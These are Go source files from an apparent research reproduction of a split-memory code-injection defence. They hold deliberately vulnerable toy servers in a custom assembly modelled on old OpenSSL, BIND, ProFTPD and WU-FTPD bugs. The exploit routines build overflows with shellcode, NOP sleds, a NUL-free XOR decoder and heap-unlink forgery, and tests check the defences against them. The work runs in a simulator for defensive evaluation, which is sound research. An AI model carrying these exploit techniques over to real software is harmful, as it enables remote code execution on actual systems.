//	minismb   (Samba 2.2.1a / eSDee trans2open): stack overflow brute-forced
//	          against the kernel's slight stack randomization, helped by a
//	          good first guess.
//	miniwuftp (WU-FTPD 2.6.1 / 7350wurm): free() of attacker-corrupted heap
//	          memory -> unsafe-unlink write-what-where -> two-stage
//	          shellcode.

// Scenario describes one Table 2 row.
type Scenario struct {
	Key     string // short identifier
	Name    string // software + version, as in Table 2
	Exploit string // exploit the attack is modeled on
	Bug     string // vulnerability class
	Inject  string // segment the attack code lands in
}

// Scenarios lists the Table 2 rows in paper order.
func Scenarios() []Scenario {
	return []Scenario{
		{"minissl", "Apache 1.3.20 + OpenSSL 0.9.6d", "openssl-too-open", "heap overflow + info leak", "heap"},
		{"minidns", "Bind 8.2.2_P5", "lsd-pl.net TSIG", "stack overflow + info leak", "stack"},
		{"miniftp", "ProFTPD 1.2.7", "proftpd-not-pro-enough", "ASCII translation heap overflow", "heap"},
		{"minismb", "Samba 2.2.1a", "eSDee trans2open", "stack overflow, brute force", "stack"},
		{"miniwuftp", "WU-FTPD 2.6.1", "7350wurm", "heap free()/unlink corruption", "heap"},
	}
}

// RunScenario executes the named scenario's exploit against a machine built
// from cfg.
func RunScenario(key string, cfg splitmem.Config) (Result, error) {
	switch key {
	case "minissl":
		return exploitMinissl(cfg)
	case "minidns":
		return exploitMinidns(cfg)
	case "miniftp":
		return exploitMiniftp(cfg)
	case "minismb":
		return exploitMinismbHelped(cfg)
	case "miniwuftp":
		r, _, err := ExploitMiniwuftp(cfg, nil)
		return r, err
	}
	return Result{}, fmt.Errorf("attacks: unknown scenario %q", key)
}

// ---------------------------------------------------------------------------
// minissl — Apache 1.3.20 + OpenSSL 0.9.6d (openssl-too-open)

const minisslSrc = `
_start:
    mov eax, banner
    push eax
    call print
    add esp, 4
ssl_loop:
    mov eax, 64
    push eax
    mov eax, linebuf
    push eax
    mov eax, 0
    push eax
    call read_line
    add esp, 12
    cmp eax, 0
    jl ssl_quit
    mov ecx, linebuf
    loadb eax, [ecx]
    cmp eax, 'H'
    jz ssl_hello
    cmp eax, 'K'
    jz ssl_key
    cmp eax, 'F'
    jz ssl_finish
    cmp eax, 'Q'
    jz ssl_quit
    mov eax, msg_err
    push eax
    call print
    add esp, 4
    jmp ssl_loop

ssl_hello:
    ; allocate the client-master-key buffer and the completion callback
    mov eax, 128
    push eax
    call malloc
    add esp, 4
    mov ecx, g_keybuf
    store [ecx], eax
    mov eax, 8
    push eax
    call malloc
    add esp, 4
    mov ecx, g_cb
    store [ecx], eax
    mov edx, ssl_done
    store [eax], edx
    ; handshake response leaks the session buffer address
    mov ecx, g_keybuf
    load eax, [ecx]
    push eax
    mov eax, hexbuf
    push eax
    call itoa_hex
    add esp, 8
    mov eax, msg_sess
    push eax
    call print
    add esp, 4
    mov eax, hexbuf
    push eax
    call print
    add esp, 4
    mov eax, msg_nl
    push eax
    call print
    add esp, 4
    jmp ssl_loop

ssl_key:
    ; "KEY <n>" - BUG: n is not checked against the 128-byte buffer
    mov eax, linebuf
    add eax, 4
    push eax
    call atoi
    add esp, 4
    push eax
    mov ecx, g_keybuf
    load eax, [ecx]
    push eax
    mov eax, 0
    push eax
    call read_exact
    add esp, 12
    mov eax, msg_ok
    push eax
    call print
    add esp, 4
    jmp ssl_loop

ssl_finish:
    mov ecx, g_cb
    load ecx, [ecx]
    load eax, [ecx]
    call eax
    mov eax, msg_bye
    push eax
    call print
    add esp, 4
    jmp ssl_loop

ssl_done:
    ret

ssl_quit:
    mov eax, 0
    push eax
    call exit

.data
banner:   .asciz "minissl 0.9.6d ready\n"
msg_sess: .asciz "SESSION "
msg_nl:   .asciz "\n"
msg_ok:   .asciz "OK\n"
msg_bye:  .asciz "BYE\n"
msg_err:  .asciz "ERR\n"
linebuf:  .space 64
hexbuf:   .space 12
g_keybuf: .word 0
g_cb:     .word 0
`

func exploitMinissl(cfg splitmem.Config) (Result, error) {
	t, err := NewTarget(cfg, minisslSrc, "minissl")
	if err != nil {
		return Result{}, err
	}
	if _, ok := t.WaitOutput("ready"); !ok {
		return Result{Notes: "no banner"}, nil
	}
	t.SendLine("HELLO")
	out, ok := t.WaitOutput("SESSION ")
	if !ok {
		return Result{Notes: "no session leak"}, nil
	}
	keybuf, err := parseLeak(out, "SESSION ")
	if err != nil {
		return Result{}, err
	}
	// chunk(128) = 136 bytes, so the callback's function pointer sits at
	// keybuf+136; overflow 140 bytes: shellcode, padding, fptr.
	payload := pad(ExecveShellcode(keybuf), 136, 0x90)
	payload = append(payload, le32(keybuf)...)
	t.SendLine("KEY 140")
	t.Send(payload)
	if _, ok := t.WaitOutput("OK"); !ok {
		return Result{Notes: "overflow not accepted"}, nil
	}
	t.SendLine("FINISH")
	t.Run()
	return t.Result(), nil
}

// ---------------------------------------------------------------------------
// minidns — Bind 8.2.2_P5 (lsd-pl TSIG)

const minidnsSrc = `
_start:
    mov eax, banner
    push eax
    call print
    add esp, 4
    call dns_handle
    mov eax, 0
    push eax
    call exit

dns_handle:
    push ebp
    mov ebp, esp
    sub esp, 96            ; signature buffer (declared 64) at ebp-96
dns_loop:
    mov eax, 64
    push eax
    mov eax, linebuf
    push eax
    mov eax, 0
    push eax
    call read_line
    add esp, 12
    cmp eax, 0
    jl dns_done
    mov ecx, linebuf
    loadb eax, [ecx]
    cmp eax, 'V'
    jz dns_version
    cmp eax, 'S'
    jz dns_sig
    cmp eax, 'Q'
    jz dns_done
    jmp dns_loop

dns_version:
    ; version response leaks a stack address (the handler frame pointer)
    push ebp
    mov eax, hexbuf
    push eax
    call itoa_hex
    add esp, 8
    mov eax, msg_ver
    push eax
    call print
    add esp, 4
    mov eax, hexbuf
    push eax
    call print
    add esp, 4
    mov eax, msg_nl
    push eax
    call print
    add esp, 4
    jmp dns_loop

dns_sig:
    ; "SIG <n>" - BUG: n unchecked against the 64-byte signature buffer
    mov eax, linebuf
    add eax, 4
    push eax
    call atoi
    add esp, 4
    push eax
    lea eax, [ebp-96]
    push eax
    mov eax, 0
    push eax
    call read_exact
    add esp, 12
    mov eax, msg_ok
    push eax
    call print
    add esp, 4
    jmp dns_loop

dns_done:
    mov esp, ebp
    pop ebp
    ret

.data
banner:  .asciz "minidns 8.2.2-P5 ready\n"
msg_ver: .asciz "VERSION BIND stack "
msg_nl:  .asciz "\n"
msg_ok:  .asciz "SIGOK\n"
linebuf: .space 64
hexbuf:  .space 12
`

func exploitMinidns(cfg splitmem.Config) (Result, error) {
	t, err := NewTarget(cfg, minidnsSrc, "minidns")
	if err != nil {
		return Result{}, err
	}
	if _, ok := t.WaitOutput("ready"); !ok {
		return Result{Notes: "no banner"}, nil
	}
	t.SendLine("VERSION")
	out, ok := t.WaitOutput("stack ")
	if !ok {
		return Result{Notes: "no stack leak"}, nil
	}
	ebp, err := parseLeak(out, "stack ")
	if err != nil {
		return Result{}, err
	}
	sigbuf := ebp - 96 // shellcode lands in the signature buffer itself
	// Overflow to the saved return address at ebp+4 (offset 100).
	payload := pad(ExecveShellcode(sigbuf), 100, 0x90)
	payload = append(payload, le32(sigbuf)...)
	t.SendLine(fmt.Sprintf("SIG %d", len(payload)))
	t.Send(payload)
	if _, ok := t.WaitOutput("SIGOK"); !ok {
		return Result{Notes: "overflow not accepted"}, nil
	}
	t.SendLine("QUIT") // dns_handle returns through the smashed frame
	t.Run()
	return t.Result(), nil
}

// ---------------------------------------------------------------------------
// miniftp — ProFTPD 1.2.7 (ASCII translation)

const miniftpSrc = `
_start:
    mov eax, banner
    push eax
    call print
    add esp, 4
ftp_loop:
    mov eax, 64
    push eax
    mov eax, linebuf
    push eax
    mov eax, 0
    push eax
    call read_line
    add esp, 12
    cmp eax, 0
    jl ftp_quit
    mov ecx, linebuf
    loadb eax, [ecx]
    cmp eax, 'S'
    jz ftp_stor
    cmp eax, 'T'
    jz ftp_type
    cmp eax, 'R'
    jz ftp_retr
    cmp eax, 'Q'
    jz ftp_quit
    jmp ftp_loop

ftp_stor:
    ; "STOR <n>": store an uploaded file of n bytes (n capped at 512)
    mov eax, linebuf
    add eax, 5
    push eax
    call atoi
    add esp, 4
    mov ecx, g_filelen
    store [ecx], eax
    mov eax, 512
    push eax
    call malloc
    add esp, 4
    mov ecx, g_filebuf
    store [ecx], eax
    mov ecx, g_filelen
    load eax, [ecx]
    push eax
    mov ecx, g_filebuf
    load eax, [ecx]
    push eax
    mov eax, 0
    push eax
    call read_exact
    add esp, 12
    mov eax, msg_ok
    push eax
    call print
    add esp, 4
    jmp ftp_loop

ftp_type:
    mov eax, 1
    mov ecx, g_ascii
    store [ecx], eax
    mov eax, msg_200
    push eax
    call print
    add esp, 4
    jmp ftp_loop

ftp_retr:
    ; BUG: the output buffer is sized for file_len bytes, but ASCII mode
    ; expands every \n to \r\n while translating - writing up to 2x.
    mov ecx, g_filelen
    load eax, [ecx]
    push eax
    call malloc
    add esp, 4
    mov ecx, g_out
    store [ecx], eax
    ; transfer-complete callback, allocated right after the output buffer
    mov eax, 256
    push eax
    call malloc
    add esp, 4
    mov ecx, g_cb
    store [ecx], eax
    mov edx, ftp_done
    store [eax], edx
    ; "150 <hex out>": the data-connection response leaks the buffer
    mov ecx, g_out
    load eax, [ecx]
    push eax
    mov eax, hexbuf
    push eax
    call itoa_hex
    add esp, 8
    mov eax, msg_150
    push eax
    call print
    add esp, 4
    mov eax, hexbuf
    push eax
    call print
    add esp, 4
    mov eax, msg_nl
    push eax
    call print
    add esp, 4
    ; translate: for i in 0..file_len: out[j++]=c, with '\n' -> '\r','\n'
    mov ecx, g_filebuf
    load esi, [ecx]        ; src
    mov ecx, g_out
    load edi, [ecx]        ; dst
    mov ecx, g_filelen
    load ecx, [ecx]        ; remaining
ftp_xlate:
    cmp ecx, 0
    jle ftp_xdone
    loadb eax, [esi]
    cmp eax, '\n'
    jnz ftp_xplain
    mov edx, '\r'
    storeb [edi], edx
    inc edi
ftp_xplain:
    storeb [edi], eax
    inc edi
    inc esi
    dec ecx
    jmp ftp_xlate
ftp_xdone:
    mov ecx, g_cb
    load ecx, [ecx]
    load eax, [ecx]        ; cb->fn
    call eax
    mov eax, msg_226
    push eax
    call print
    add esp, 4
    jmp ftp_loop

ftp_done:
    ret

ftp_quit:
    mov eax, 0
    push eax
    call exit

.data
banner:    .asciz "miniftp 1.2.7 ready\n"
msg_ok:    .asciz "OK\n"
msg_200:   .asciz "200 TYPE A\n"
msg_150:   .asciz "150 "
msg_226:   .asciz "226\n"
msg_nl:    .asciz "\n"
linebuf:   .space 64
hexbuf:    .space 12
g_filebuf: .word 0
g_filelen: .word 0
g_ascii:   .word 0
g_out:     .word 0
g_cb:      .word 0
`

func exploitMiniftp(cfg splitmem.Config) (Result, error) {
	t, err := NewTarget(cfg, miniftpSrc, "miniftp")
	if err != nil {
		return Result{}, err
	}
	if _, ok := t.WaitOutput("ready"); !ok {
		return Result{Notes: "no banner"}, nil
	}
	// Predict the output-buffer address from the file upload: we need the
	// shellcode positioned at *out*, which the server leaks in its "150"
	// response before translating. Upload first with a placeholder, learn
	// the address from a dry-run RETR... a single connection suffices
	// because the exploit can upload, RETR once to leak the address (the
	// placeholder file has no newlines so nothing overflows), then upload
	// the weaponized file and RETR again.
	n := 256
	cs := (n + 11) &^ 7 // chunk size of the output buffer
	placeholder := make([]byte, n)
	for i := range placeholder {
		placeholder[i] = 'A'
	}
	t.SendLine(fmt.Sprintf("STOR %d", n))
	t.Send(placeholder)
	if _, ok := t.WaitOutput("OK"); !ok {
		return Result{Notes: "upload rejected"}, nil
	}
	t.SendLine("TYPE A")
	t.WaitOutput("200")
	t.SendLine("RETR")
	out, ok := t.WaitOutput("150 ")
	if !ok {
		return Result{Notes: "no data-connection leak"}, nil
	}
	out1, err := parseLeak(out, "150 ")
	if err != nil {
		return Result{}, err
	}
	t.WaitOutput("226")
	// The next RETR's output buffer lands after this RETR's callback chunk
	// and the second upload's 512-byte file chunk:
	//   out2 = out1 + chunk(256) + chunk(256) + chunk(512).
	// The weaponized file: shellcode (no newlines), filler, 12 newlines,
	// then the fptr value, arranged so translation writes the fptr exactly
	// at offset chunk(n) — the second callback's function pointer.
	out2 := uint32(int(out1) + cs + (256+11)&^7 + (512+11)&^7)
	sc := ExecveShellcode(out2)
	m := 12                      // newlines: each adds one output byte
	clean := cs - 2*m            // output bytes before the fptr
	body := pad(sc, clean, 0x90) // shellcode + 0x90 filler
	for i := 0; i < m; i++ {
		body = append(body, '\n')
	}
	body = append(body, le32(out2)...)
	t.SendLine(fmt.Sprintf("STOR %d", len(body)))
	t.Send(body)
	if _, ok := t.WaitOutput("OK"); !ok {
		return Result{Notes: "weaponized upload rejected"}, nil
	}
	t.SendLine("RETR")
	t.Run()
	return t.Result(), nil
}
