package attacks

import (
	"splitmem"
)

// The mixed code-and-data page attack (Fig. 1b, §2): real systems put code
// and data on the same page (Linux signal trampolines, loadable modules,
// Java VMs, SafeDisc). Such a page must stay executable, so the
// execute-disable bit cannot protect it: code injected INTO the mixed page
// executes even under full NX. Split memory protects it by keeping the
// page's code and data views physically apart.

const mixedPageSrc = `
_start:
    ; leak the mixed-page table address
    mov eax, jit_table
    push eax
    mov eax, leakbuf
    push eax
    call itoa_hex
    add esp, 8
    mov eax, leakpfx
    push eax
    call print
    add esp, 4
    mov eax, leakbuf
    push eax
    call print
    add esp, 4
    mov eax, newline
    push eax
    call print
    add esp, 4
    ; BUG: attacker-controlled length into the mixed page's data area
    mov eax, 512
    push eax
    mov eax, jit_table
    push eax
    mov eax, 0
    push eax
    call read_exact
    add esp, 12
    ; dispatch through the (clobbered) handler slot next to the table
    mov ecx, jit_handler
    load eax, [ecx]
    call eax
    mov eax, survived
    push eax
    call print
    add esp, 4
    mov eax, 0
    push eax
    call exit

; The mixed page: a JIT-style region holding BOTH code (the default
; handler) and data (the table + handler slot). It must be rwx, like a Java
; VM code cache or an unpacked SafeDisc region.
.section jit 0x08090000 rwx
jit_default:
    ret
.align 64
jit_table:   .space 64
jit_handler: .word jit_default

.data
leakpfx:  .asciz "BUF "
newline:  .asciz "\n"
survived: .asciz "SURVIVED\n"
leakbuf:  .space 12
`

// RunMixedPage injects shellcode into the writable half of an executable
// mixed page and hijacks the handler slot next to it.
func RunMixedPage(cfg splitmem.Config) (Result, error) {
	t, err := NewTarget(cfg, mixedPageSrc, "mixedpage")
	if err != nil {
		return Result{}, err
	}
	out, ok := t.WaitOutput("BUF ")
	if !ok {
		return Result{Notes: "no leak: " + out}, nil
	}
	table, err := parseLeak(out, "BUF ")
	if err != nil {
		return Result{}, err
	}
	// 64 bytes of shellcode+filler land in the table; the next word is the
	// handler slot.
	payload := pad(ExecveShellcode(table), 64, 0x90)
	payload = append(payload, le32(table)...)
	t.Send(payload)
	t.Close()
	t.Run()
	return t.Result(), nil
}
