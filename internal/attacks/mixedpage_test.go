package attacks

import (
	"testing"

	"splitmem"
)

// TestMixedPage reproduces the Fig. 1b motivation: NX cannot protect a page
// that holds both code and data, split memory can — including in the
// "supplement NX" deployment that splits only mixed pages (§4.2.1).
func TestMixedPage(t *testing.T) {
	cases := []struct {
		name        string
		cfg         splitmem.Config
		wantFoiled  bool
		description string
	}{
		{"unprotected", splitmem.Config{Protection: splitmem.ProtNone}, false, "baseline"},
		{"nx", splitmem.Config{Protection: splitmem.ProtNX}, false,
			"the mixed page must remain executable, so NX is blind to it"},
		{"split", splitmem.Config{Protection: splitmem.ProtSplit}, true,
			"full split memory separates the page's code and data views"},
		{"split-mixed-only+nx", splitmem.Config{Protection: splitmem.ProtSplitNX, MixedOnly: true}, true,
			"splitting only mixed pages while NX covers the rest"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r, err := RunMixedPage(tc.cfg)
			if err != nil {
				t.Fatal(err)
			}
			if tc.wantFoiled && r.Succeeded() {
				t.Fatalf("%s: attack succeeded: %+v", tc.description, r)
			}
			if !tc.wantFoiled && !r.Succeeded() {
				t.Fatalf("%s: attack should succeed here: %+v", tc.description, r)
			}
		})
	}
}

// TestMixedOnlyResponseCaveat documents §4.2.1's warning: "only protecting
// the mixed pages ... may limit the use of the various response modes".
// With MixedOnly+NX, an injection into a *plain* data page is caught by the
// NX bit — a hard kill with no observe option — while an injection into the
// mixed page still enjoys the full observe machinery.
func TestMixedOnlyResponseCaveat(t *testing.T) {
	cfg := splitmem.Config{
		Protection: splitmem.ProtSplitNX,
		MixedOnly:  true,
		Response:   splitmem.Observe,
	}
	// Plain-page injection: NX kill, no observe, no shell.
	plainVictim := `
_start:
    sub esp, 1024
    mov ecx, esp
    mov ebx, 0
    mov edx, 1024
    mov eax, 3
    int 0x80
    jmp ecx
`
	m, err := splitmem.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	p, err := m.LoadAsm(plainVictim, "plain")
	if err != nil {
		t.Fatal(err)
	}
	p.StdinWrite(ExecveShellcode(0))
	m.Run(50_000_000)
	if p.ShellSpawned() {
		t.Fatal("NX page injection must not be observable into a shell")
	}
	if killed, _ := p.Killed(); !killed {
		t.Fatal("plain-page injection should hard-kill under NX")
	}
	if len(m.EventsOf(splitmem.EvInjectionObserved)) != 0 {
		t.Fatal("observe mode cannot apply to an unsplit page")
	}

	// Mixed-page injection: observe mode works (the page is split).
	r, err := RunMixedPage(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if !r.Succeeded() {
		t.Fatalf("observe mode on the mixed page should let the attack continue: %+v", r)
	}
}
