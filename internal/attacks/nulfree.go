package attacks

import (
	"encoding/binary"
	"fmt"

	"splitmem"
	"splitmem/internal/guest"
)

// Wilander & Kamkar's benchmark reaches its overflows through strcpy(),
// which imposes the classic shellcoding constraint: the payload may contain
// no NUL bytes (strcpy stops) and, for line-oriented readers, no newlines.
// Real exploits answer with an encoded payload and a constraint-free
// decoder stub. This file implements that craft for S86: a 49-byte
// NUL/LF-free XOR decoder that unpacks the real shellcode in place and
// falls through into it.

// forbidden reports whether b may not appear on the wire.
func forbidden(b byte) bool { return b == 0x00 || b == '\n' }

// CleanBytes reports whether the buffer is free of forbidden bytes.
func CleanBytes(b []byte) bool {
	for _, c := range b {
		if forbidden(c) {
			return false
		}
	}
	return true
}

// pickKey finds an XOR key byte such that every encoded payload byte (and
// the key itself, replicated into an imm32) is clean.
func pickKey(payload []byte) (byte, error) {
next:
	for k := 1; k < 256; k++ {
		key := byte(k)
		if forbidden(key) {
			continue
		}
		for _, b := range payload {
			if forbidden(b ^ key) {
				continue next
			}
		}
		return key, nil
	}
	return 0, fmt.Errorf("attacks: no clean XOR key exists for payload")
}

// decoderLen is the size of the decoder stub emitted by NulFreeShellcode.
const decoderLen = 49

// NulFreeShellcode wraps payload in a NUL/LF-free XOR decoder positioned at
// addr. The result, when executed at addr, reconstructs payload in place
// (at addr+49) and runs it. It fails if addr-derived immediates are not
// clean — callers slide the landing address (e.g. with a NOP sled) until
// they are.
func NulFreeShellcode(addr uint32, payload []byte) ([]byte, error) {
	key, err := pickKey(payload)
	if err != nil {
		return nil, err
	}
	start := addr + decoderLen // where the encoded payload sits
	esi0 := start + 1
	edi0 := start + uint32(len(payload)) + 1

	stub := make([]byte, 0, decoderLen+len(payload))
	imm := func(v uint32) []byte {
		var b [4]byte
		binary.LittleEndian.PutUint32(b[:], v)
		return b[:]
	}
	// mov esi, start+1
	stub = append(stub, 0xBE)
	stub = append(stub, imm(esi0)...)
	// mov edi, end+1
	stub = append(stub, 0xBF)
	stub = append(stub, imm(edi0)...)
	// mov ebx, 0x01010101 ; shr ebx, 24  -> ebx = 1 without NUL immediates
	stub = append(stub, 0xBB, 0x01, 0x01, 0x01, 0x01)
	stub = append(stub, 0xD3, 0x03, 24)
	// loop: loadb edx, [esi-1]
	stub = append(stub, 0x8A, 0x02, 0x06, 0xFF, 0xFF, 0xFF, 0xFF)
	// xor edx, key*0x01010101
	stub = append(stub, 0x35, 0x02, key, key, key, key)
	// storeb [esi-1], edx
	stub = append(stub, 0x88, 0x06, 0x02, 0xFF, 0xFF, 0xFF, 0xFF)
	// add esi, ebx
	stub = append(stub, 0x01, 0x06, 0x03)
	// cmp esi, edi
	stub = append(stub, 0x39, 0x06, 0x07)
	// jnz loop (rel32 = -31)
	stub = append(stub, 0x85)
	stub = append(stub, imm(uint32(0xFFFFFFE1))...)

	if len(stub) != decoderLen {
		return nil, fmt.Errorf("attacks: decoder is %d bytes, expected %d", len(stub), decoderLen)
	}
	for _, b := range payload {
		stub = append(stub, b^key)
	}
	if !CleanBytes(stub) {
		return nil, fmt.Errorf("attacks: stub for addr %#x is not NUL/LF-free", addr)
	}
	return stub, nil
}

// strcpyVictimSrc is the Wilander-faithful strcpy scenario: input arrives
// via read_line (newline-terminated) into a large static buffer and is then
// strcpy'd into a 64-byte stack buffer — so the overflow payload must be
// NUL- and newline-free end to end.
const strcpyVictimSrc = `
_start:
    call vuln
    mov eax, survived
    push eax
    call print
    add esp, 4
    mov eax, 0
    push eax
    call exit

vuln:
    push ebp
    mov ebp, esp
    sub esp, 64
    ; leak the frame ("FRM xxxxxxxx"), the usual info-leak stand-in
    push ebp
    mov eax, leakbuf
    push eax
    call itoa_hex
    add esp, 8
    mov eax, frmpfx
    push eax
    call print
    add esp, 4
    mov eax, leakbuf
    push eax
    call print
    add esp, 4
    mov eax, newline
    push eax
    call print
    add esp, 4
    ; read_line(0, linebig, 512)
    mov eax, 512
    push eax
    mov eax, linebig
    push eax
    mov eax, 0
    push eax
    call read_line
    add esp, 12
    ; BUG: strcpy into the 64-byte stack buffer
    mov eax, linebig
    push eax
    lea eax, [ebp-64]
    push eax
    call strcpy
    add esp, 8
    mov esp, ebp
    pop ebp
    ret

.data
frmpfx:   .asciz "FRM "
newline:  .asciz "\n"
survived: .asciz "SURVIVED\n"
leakbuf:  .space 12
          .space 256        ; keep linebig above xx00-offset addresses
linebig:  .space 520
`

// RunStrcpyScenario mounts the constraint-respecting strcpy attack.
//
// Two classic tricks combine here. First, stack addresses near the
// 0xBFFF0000 top contain NUL bytes and the frame leaves only ~88 bytes
// above the buffer, so the return address points back into the STAGING
// buffer (the static line buffer the input was read into, whose
// 0x0806xxxx address is clean) where the whole line still sits. Second,
// the line carries a NUL terminator right after the return address: the
// line reader stores the entire line, but strcpy copies only the 72-byte
// NUL-free prefix — the overflow stays inside the frame while the decoder
// and encoded shellcode ride along behind the NUL.
func RunStrcpyScenario(cfg splitmem.Config) (Result, error) {
	t, err := NewTarget(cfg, strcpyVictimSrc, "strcpy-victim")
	if err != nil {
		return Result{}, err
	}
	prog, err := splitmem.Assemble(guest.WithCRT(strcpyVictimSrc))
	if err != nil {
		return Result{}, err
	}
	linebig, ok := prog.Symbol("linebig")
	if !ok {
		return Result{}, fmt.Errorf("no linebig symbol")
	}
	if out, waited := t.WaitOutput("FRM "); !waited {
		return Result{Notes: "no leak: " + out}, nil
	}
	// Wire layout: [64 filler][fake ebp][ret -> linebig+73][NUL][sled][stub].
	const stubOff = 73
	landing := linebig + stubOff
	var stub []byte
	sled := 0
	for ; sled < 32; sled++ {
		inner := ExecveShellcode(landing + uint32(sled) + decoderLen)
		stub, err = NulFreeShellcode(landing+uint32(sled), inner)
		if err == nil {
			break
		}
	}
	if err != nil {
		return Result{}, err
	}
	retVal := landing
	if !CleanBytes(le32(retVal)) {
		return Result{Notes: "staging address produces forbidden bytes"}, nil
	}
	prefix := pad(nil, 64, 'A')
	prefix = append(prefix, le32(0x41414141)...) // fake saved ebp (clean)
	prefix = append(prefix, le32(retVal)...)
	if !CleanBytes(prefix) {
		return Result{Notes: "prefix not clean"}, nil
	}
	line := append(prefix, 0x00) // strcpy stops here; read_line does not
	line = append(line, NopSled(sled, stub)...)
	t.Send(append(line, '\n'))
	t.Close()
	t.Run()
	return t.Result(), nil
}
