package attacks

import (
	"fmt"
	"strings"

	"splitmem"
	"splitmem/internal/isa"
)

// Fig. 5: the wu-ftpd exploit executed under the three response modes, plus
// the Sebek keystroke log captured during observe mode.

// Fig5Result captures one response-mode demonstration.
type Fig5Result struct {
	Mode         splitmem.ResponseMode
	ShellSpawned bool
	AttackerView string // what the exploit's operator sees
	Dump         []byte // forensics: bytes captured at the hijacked EIP
	DumpEIP      uint32
	SebekLog     []string
	Detections   int
}

// RunFig5 executes the 7350wurm-style exploit under the given response
// mode, interacting with the spawned shell in observe mode exactly as the
// paper's screenshots show.
func RunFig5(mode splitmem.ResponseMode) (Fig5Result, error) {
	cfg := splitmem.Config{Protection: splitmem.ProtSplit, Response: mode}
	var shell []string
	if mode == splitmem.Observe {
		shell = []string{"id", "uname -a", "exit"}
	}
	if mode == splitmem.Forensics {
		cfg.ForensicShellcode = splitmem.ExitShellcode()
	}

	t, err := NewTarget(cfg, miniwuftpSrc, "miniwuftp")
	if err != nil {
		return Fig5Result{}, err
	}
	res := Fig5Result{Mode: mode}
	var view strings.Builder
	view.WriteString("7350wurm - x86/S86 wu-ftpd <= 2.6.1 remote root (mini reproduction)\n")

	step := func(send string, wait string) bool {
		if send != "" {
			t.SendLine(send)
		}
		out, ok := t.WaitOutput(wait)
		view.WriteString(out)
		return ok
	}
	if !step("", "220") {
		return res, fmt.Errorf("fig5: no banner")
	}
	view.WriteString("# trying to log in with (ftp/ftp) ... connected.\n")
	step("USER ftp", "331")
	step("PASS ftp", "230")
	view.WriteString("# heap corruption via globbing, preparing chunk forgery\n")
	t.SendLine("GLOB 144")
	out, ok := t.WaitOutput("150 ")
	view.WriteString(out)
	if !ok {
		return res, fmt.Errorf("fig5: no leak")
	}
	pat, err := parseLeak(out, "150 ")
	if err != nil {
		return res, err
	}
	handlerAddr, err := wuHandlerAddr()
	if err != nil {
		return res, err
	}
	stage1At := pat + 16
	stage1 := TwoStageShellcode(stage1At, "OK!!")
	payload := make([]byte, 16)
	payload = append(payload, stage1...)
	payload = pad(payload, 132, 0x90)
	payload = append(payload, le32(16)...)
	payload = append(payload, le32(stage1At)...)
	payload = append(payload, le32(handlerAddr-4)...)
	t.Send(payload)
	view.WriteString("# exploiting the glob heap corruption ...\n")

	out, gotCookie := t.WaitOutput("OK!!")
	view.WriteString(out)
	if gotCookie {
		view.WriteString("# stage 1 alive, sending stage 2 ...\n")
		t.Send(pad(ExecveShellcode(stage1At+96), 128, 0x90))
		t.Run()
		if t.P.ShellSpawned() {
			view.WriteString("# it's a rootshell!\n")
			for _, cmd := range shell {
				t.SendLine(cmd)
				t.Run()
				view.WriteString(fmt.Sprintf("sh-2.05# %s\n", cmd))
				view.WriteString(string(t.P.StdoutDrain()))
			}
		}
	} else {
		t.Run()
		view.WriteString(string(t.P.StdoutDrain()))
		if killed, sig := t.P.Killed(); killed {
			view.WriteString(fmt.Sprintf("# connection lost (%v) - exploit failed\n", sig))
		} else if exited, code := t.P.Exited(); exited {
			view.WriteString(fmt.Sprintf("# server closed the session gracefully (exit %d) - exploit failed\n", code))
		} else {
			view.WriteString("# no response - exploit failed\n")
		}
	}

	res.ShellSpawned = t.P.ShellSpawned()
	res.AttackerView = view.String()
	res.Detections = len(t.M.EventsOf(splitmem.EvInjectionDetected))
	for _, ev := range t.M.EventsOf(splitmem.EvForensicDump) {
		res.Dump = ev.Data
		res.DumpEIP = ev.Addr
	}
	if len(res.Dump) == 0 {
		for _, ev := range t.M.EventsOf(splitmem.EvInjectionDetected) {
			res.Dump = ev.Data
			res.DumpEIP = ev.Addr
		}
	}
	for _, ev := range t.M.EventsOf(splitmem.EvSebekLine) {
		res.SebekLog = append(res.SebekLog, strings.TrimRight(ev.Text, "\n"))
	}
	return res, nil
}

// RenderFig5 formats a Fig5Result the way the paper's figure presents it.
func RenderFig5(r Fig5Result) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "===== Fig. 5 (%s mode) =====\n", r.Mode)
	sb.WriteString(r.AttackerView)
	if len(r.Dump) > 0 {
		fmt.Fprintf(&sb, "\n[kernel] injected code detected at EIP=%#08x; first %d bytes:\n", r.DumpEIP, len(r.Dump))
		fmt.Fprintf(&sb, "  % x\n", r.Dump)
		sb.WriteString(isa.Disassemble(r.Dump, r.DumpEIP, 6))
	}
	if len(r.SebekLog) > 0 {
		sb.WriteString("\n[sebek] keystroke log:\n")
		for _, l := range r.SebekLog {
			fmt.Fprintf(&sb, "  %s\n", l)
		}
	}
	return sb.String()
}
