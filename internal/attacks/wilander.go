package attacks

import (
	"fmt"

	"splitmem"
	"splitmem/internal/guest"
)

// The Wilander & Kamkar-style benchmark (§6.1.1, Table 1): every
// combination of control-flow hijack technique and injection segment. Each
// cell generates a dedicated vulnerable guest program, delivers real
// shellcode plus an overflow payload, and classifies the outcome.

// Technique is the control-flow hijack method.
type Technique int

// Hijack techniques, following Wilander & Kamkar's taxonomy.
const (
	TechRet          Technique = iota // overwrite the function return address
	TechBasePtr                       // overwrite the saved base (frame) pointer
	TechFuncPtrVar                    // overwrite a function-pointer variable
	TechFuncPtrParam                  // overwrite a function-pointer parameter
	TechLongjmpVar                    // overwrite a longjmp buffer variable
	TechLongjmpParam                  // overwrite a longjmp buffer parameter
)

// Techniques lists all hijack techniques in table order.
func Techniques() []Technique {
	return []Technique{TechRet, TechBasePtr, TechFuncPtrVar, TechFuncPtrParam, TechLongjmpVar, TechLongjmpParam}
}

// String names the technique as in Table 1.
func (t Technique) String() string {
	switch t {
	case TechRet:
		return "Return address"
	case TechBasePtr:
		return "Old base pointer"
	case TechFuncPtrVar:
		return "Function pointer variable"
	case TechFuncPtrParam:
		return "Function pointer parameter"
	case TechLongjmpVar:
		return "Longjmp buffer variable"
	case TechLongjmpParam:
		return "Longjmp buffer parameter"
	}
	return "?"
}

// Segment is where the attack code is injected.
type Segment int

// Injection segments (Table 1 columns).
const (
	SegData Segment = iota
	SegBSS
	SegHeap
	SegStack
)

// Segments lists all injection segments in table order.
